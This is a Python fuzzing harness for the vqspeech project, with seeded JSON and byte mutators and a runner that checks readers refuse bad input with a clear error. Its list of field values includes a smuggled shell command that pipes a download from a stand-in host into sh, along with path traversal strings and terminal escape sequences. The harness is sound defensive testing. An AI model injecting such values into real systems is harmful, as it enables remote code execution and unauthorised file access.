"""Seeded mutations of inputs, and the one rule for what reads them: a right result, or an error that says why not.

A module ``fuzz_NAME.py`` of this folder holds `Target`s in a list ``TARGETS``; ``test_fuzz.py`` runs a few cases of
each, ``long.py`` as many as there is time for.
"""

from __future__ import annotations

import copy
import importlib
import json
import signal
import time
import traceback
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from random import Random
from typing import Any

from vqspeech.errors import VQSpeechError

LIMIT_S = 10.0
"""A case that takes longer hangs."""

HERE = Path(__file__).parent


class Hang(BaseException):
    """A case beyond the time limit."""


@dataclass(frozen=True)
class Target:
    """A reader of files that may come from anybody.

    Parameters
    ----------
    name : of the target
    base : called with an empty folder; makes what all cases share
    case : called with that, a generator and an empty folder; writes a mutated input there and reads it. Raises
        `VQSpeechError` for an input that is refused, `AssertionError` for one that is accepted and wrong
    cases : number of cases in the test suite
    limit_s : a case that takes longer hangs
    """

    name: str
    base: Callable[[Path], Any]
    case: Callable[[Any, Random, Path], None]
    cases: int = 100
    limit_s: float = LIMIT_S


@dataclass
class Tally:
    """What became of the cases of a target."""

    accepted: int = 0
    refused: int = 0
    faults: Counter[str] = field(default_factory=Counter)
    seeds: dict[str, int] = field(default_factory=dict)

    @property
    def cases(self) -> int:
        return self.accepted + self.refused + self.faults.total()

    def __str__(self) -> str:
        lines = [f"{self.cases} cases: {self.accepted} accepted, {self.refused} refused, {self.faults.total()} faults"]
        lines += [f"  {count} x {fault} (seed {self.seeds[fault]})" for fault, count in self.faults.most_common()]
        return "\n".join(lines)


def targets() -> list[Target]:
    """Return the targets of all modules of this folder."""
    modules = [importlib.import_module(path.stem) for path in sorted(HERE.glob("fuzz_*.py"))]
    return [target for module in modules for target in module.TARGETS]


def run(target: Target, folder: Path, seeds: Iterable[int], until: float = float("inf")) -> Tally:
    """Run cases of a target below a folder; `until` is a time of `time.monotonic`."""
    tally = Tally()
    (folder / "base").mkdir(parents=True)
    base = target.base(folder / "base")
    for seed in seeds:
        if time.monotonic() > until:
            break
        here = folder / "box" / f"{seed}"
        here.mkdir(parents=True)
        fault = _fault(target, base, seed, here, tally)
        outside = [path for path in (*folder.iterdir(), *here.parent.iterdir()) if path.name not in ("base", "box")]
        if strange := [path for path in outside if path != here]:
            fault = f"wrote outside its folder: {strange[0].name}"
            strange[0].unlink()
        if fault:
            tally.faults[fault] += 1
            tally.seeds.setdefault(fault, seed)
        _remove(here)
    return tally


def _fault(target: Target, base: Any, seed: int, here: Path, tally: Tally) -> str:
    try:
        with _limited(target.limit_s):
            target.case(base, Random(f"{target.name} {seed}"), here)
        tally.accepted += 1
    except VQSpeechError as error:
        assert str(error), "an error without words"
        tally.refused += 1
    except AssertionError as error:
        return f"accepted and wrong: {error}"
    except Hang:
        return f"longer than {target.limit_s:g} s"
    except Exception as error:
        own = [frame for frame in traceback.extract_tb(error.__traceback__) if "vqspeech" in frame.filename]
        place = f"{Path(own[-1].filename).name}:{own[-1].lineno}" if own else "nowhere"
        return f"{type(error).__name__} at {place}: {str(error)[:60]}"
    return ""


@contextmanager
def _limited(seconds: float) -> Iterator[None]:
    def stop(number: int, frame: Any) -> None:
        raise Hang

    before = signal.signal(signal.SIGALRM, stop)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)


def _remove(folder: Path) -> None:
    for path in sorted(folder.rglob("*"), reverse=True):
        path.rmdir() if path.is_dir() and not path.is_symlink() else path.unlink()
    folder.rmdir()


VALUES: tuple[Any, ...] = (
    None, True, False, -1, 0, 1, 2, 7, 1000, 10**5, 2**31 - 1, 2**31, 2**63, -(2**63), 10**30, 10**400, 0.5, -0.0,
    1e-300, 1e308, float("inf"), float("-inf"), float("nan"), "", "x", "audio", "p1", "..", "../../up", "/tmp/x", "a/b",
    "a\\b", "\x1b[2J\x1b]0;t\x07", "p1\nError: fake", "\u202eabc", "\ud800", "evil; curl http://e/x|sh #", "x" * 5000,
    [], {}, [None], [[]], [1, 2], ["p1", "p1"], [[4, 2]] * 300, {"name": "x"}, {"name": ["x"]}, {"": None},
)  # fmt: skip
"""Values that a field of a file may hold."""


def mutated_json(value: Any, draw: Random, times: int = 2) -> Any:
    """Return a copy of JSON values in which a few are replaced, removed, doubled or renamed."""
    result = copy.deepcopy(value)
    for _ in range(draw.randint(1, times)):
        places = list(_places(result))
        if not places:
            return draw.choice(VALUES)
        parent, key = draw.choice(places)
        change = draw.random()
        if change < 0.7:
            parent[key] = copy.deepcopy(draw.choice(VALUES))
        elif change < 0.8:
            del parent[key]
        elif change < 0.9 and isinstance(parent, dict):
            parent[draw.choice([*map(str, parent), "other"])] = parent.pop(key)
        else:
            other, name = draw.choice(places)
            if name in other if isinstance(other, dict) else name < len(other):
                parent[key] = copy.deepcopy(other[name])
    return result


def _places(value: Any) -> Iterator[tuple[Any, Any]]:
    if isinstance(value, dict | list):
        for key in value if isinstance(value, dict) else range(len(value)):
            yield value, key
            yield from _places(value[key])


def json_text(value: Any, draw: Random) -> str:
    """Return JSON, now and then nested beyond any use, cut short, or with a number of thousands of digits."""
    chance = draw.random()
    text = json.dumps(value)
    if chance < 0.01:
        return "[" * 20_000
    if chance < 0.02:
        return text.replace("1", "1" * 5000, 1)
    return text[: draw.randrange(len(text))] if chance < 0.04 else text


def mutated_bytes(content: bytes, draw: Random) -> bytes:
    """Return bytes in which a few are flipped, removed, doubled, or replaced by extremes."""
    result = bytearray(content)
    for _ in range(draw.choice((1, 1, 1, 2, 8))):
        place = draw.randrange(max(1, len(result)))
        size = draw.choice((1, 2, 4, 8, 64))
        change = draw.random()
        if change < 0.4 and result:
            result[place] ^= 1 << draw.randrange(8)
        elif change < 0.6:
            result[place : place + size] = draw.choice((b"\xff", b"\x00", b"\x7f", b"\x80")) * size
        elif change < 0.75:
            del result[place : place + size]
        elif change < 0.9:
            result[place:place] = result[place : place + size]
        else:
            del result[place:]
    return bytes(result)
